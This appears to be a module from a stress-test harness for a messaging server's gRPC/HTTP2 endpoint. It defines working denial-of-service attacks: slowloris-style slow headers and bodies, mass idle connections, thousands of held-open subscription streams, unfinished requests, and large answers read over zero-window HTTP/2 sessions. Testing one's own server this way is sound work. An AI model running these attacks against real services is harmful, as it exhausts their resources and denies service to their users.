import { randomBytes } from "node:crypto";
import type { ClientHttp2Session } from "node:http2";
import type { Socket } from "node:net";
import { setTimeout as wait } from "node:timers/promises";
import { create, toBinary } from "@bufbuild/protobuf";
import { QueryGroupMessagesRequestSchema, SubscribeGroupMessagesRequestSchema } from "@latchkey/xmtp/proto";
import { ended, type Attack } from "./attack.ts";
import { QUERY, SEND, sendRequest, SUBSCRIBE } from "./crowd.ts";
import { ATTACKER, beginCall, call, grpcFrame, openSession, openSocket } from "./wire.ts";

/** The most that an attacker opens: beyond the bound of one address. */
const CONNECTIONS = 1_500;

const PREFACE = Buffer.concat([
  Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
  Buffer.from([0, 0, 0, 4, 0, 0, 0, 0, 0]),
]);

/** Opens connections, says something on each, and now and then a little more. */
function hold(name: string, first: string | Buffer, drip?: string): Attack {
  return {
    name,
    async run({ port }, signal) {
      const sockets: Socket[] = [];
      for (let count = 0; count < CONNECTIONS && !signal.aborted; count++) {
        const socket = await openSocket(port);
        if (socket === undefined) continue;
        socket.write(first);
        sockets.push(socket);
      }
      while (!signal.aborted) {
        await Promise.race([wait(500), ended(signal)]);
        if (drip !== undefined) for (const socket of sockets) if (!socket.destroyed) socket.write(drip);
      }
      for (const socket of sockets) socket.destroy();
    },
  };
}

async function openSessions(port: number, amount: number, settings = {}): Promise<ClientHttp2Session[]> {
  const sessions = await Promise.all(Array.from({ length: amount }, () => openSession(port, ATTACKER, settings)));
  return sessions.filter((session) => session !== undefined);
}

/** Opens streams on a few sessions until the end; `begin` sends what it wants on each. */
function openStreams(
  name: string,
  amount: number,
  begin: (session: ClientHttp2Session, index: number) => void,
): Attack {
  return {
    name,
    async run({ port }, signal) {
      const sessions = await openSessions(port, 4);
      for (let index = 0; index < amount && !signal.aborted; index++) {
        const session = sessions[index % sessions.length];
        if (session !== undefined && !session.destroyed) begin(session, index);
        if (index % 50 === 49) await wait(10);
      }
      await ended(signal);
      for (const session of sessions) session.destroy();
    },
  };
}

function subscription(filters: number): Buffer {
  const message = create(SubscribeGroupMessagesRequestSchema, {
    filters: Array.from({ length: filters }, () => ({ groupId: new Uint8Array(randomBytes(16)), idCursor: 2n ** 63n })),
  });
  return grpcFrame(toBinary(SubscribeGroupMessagesRequestSchema, message));
}

/** Asks for large answers on a connection whose window stays shut. */
function unreadAnswers(): Attack {
  const group = new Uint8Array(16).fill(33);
  const query = grpcFrame(
    toBinary(QueryGroupMessagesRequestSchema, create(QueryGroupMessagesRequestSchema, { groupId: group })),
  );
  return {
    name: "unread answers",
    async run({ port }, signal) {
      const [writer] = await openSessions(port, 1);
      if (writer === undefined) return;
      for (const size of [20 * 2 ** 20, 2 ** 20, 2 ** 16]) {
        await call(writer, SEND, grpcFrame(sendRequest(group, "x".repeat(size))));
      }
      const readers = await openSessions(port, 4, { initialWindowSize: 0 });
      while (!signal.aborted) {
        for (const reader of readers) {
          if (reader.destroyed) continue;
          for (let count = 0; count < 25; count++) beginCall(reader, QUERY).pause().end(query);
        }
        await Promise.race([wait(1_000), ended(signal)]);
      }
      for (const session of [writer, ...readers]) session.destroy();
    },
  };
}

/** Attacks by what is held open. */
export function connectionAttacks(): Attack[] {
  const wide = subscription(16_384);
  const narrow = subscription(1);
  const head = `POST ${QUERY} HTTP/1.1\r\nhost: x\r\n`;
  return [
    unreadAnswers(),
    openStreams("wide streams", 60, (session) => beginCall(session, SUBSCRIBE).resume().end(wide)),
    openStreams("many streams", 4_000, (session) => beginCall(session, SUBSCRIBE).resume().end(narrow)),
    openStreams("requests without an end", 4_000, (session) => void beginCall(session, SEND).write(Buffer.alloc(5))),
    hold("idle connections, HTTP/1.1", "G"),
    hold("idle connections, HTTP/2", PREFACE),
    hold("slow headers, HTTP/1.1", head, "x"),
    hold("slow bodies, HTTP/1.1", `${head}content-type: application/json\r\ncontent-length: 1000\r\n\r\n`, "x"),
  ];
}
